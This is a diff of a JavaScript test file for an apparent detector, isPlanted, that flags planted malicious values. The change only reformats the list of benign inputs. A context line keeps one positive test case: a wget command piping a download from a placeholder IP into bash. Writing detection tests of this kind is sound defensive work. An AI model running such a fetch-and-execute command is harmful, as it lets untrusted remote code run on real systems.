@@ -57,8 +57,12 @@ describe("values of keys", () => {
     "wget -q -O- http://192.0.2.1/x|bash",
   ])("%j is planted", (value) => expect(isPlanted(value)).toBe(true));
 
-  it.each(["2026-01-01 10:00", "1 2 3 4 5 6", '{"cron":"*/5"}', "curl is a program", "", "a * b * c * d * e"])(
-    "%j is not",
-    (value) => expect(isPlanted(value)).toBe(false),
-  );
+  it.each([
+    "2026-01-01 10:00",
+    "1 2 3 4 5 6",
+    '{"cron":"*/5"}',
+    "curl is a program",
+    "",
+    "a * b * c * d * e",
+  ])("%j is not", (value) => expect(isPlanted(value)).toBe(false));
 });
